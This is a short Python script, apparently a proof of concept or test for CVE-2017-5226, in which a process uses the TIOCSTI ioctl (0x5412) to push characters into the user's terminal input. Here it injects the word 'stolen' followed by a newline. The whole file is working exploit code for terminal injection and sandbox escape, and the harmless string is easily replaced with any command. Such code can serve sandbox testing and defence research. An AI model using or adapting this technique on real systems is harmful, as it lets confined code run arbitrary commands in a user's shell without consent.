"""Type a command into the user's terminal (CVE-2017-5226)."""

import fcntl
import json
import os
import sys

terminal = os.open(json.loads(sys.argv[1])["terminal"], os.O_RDWR)
for character in b"stolen\n":
    fcntl.ioctl(terminal, 0x5412, bytes([character]))
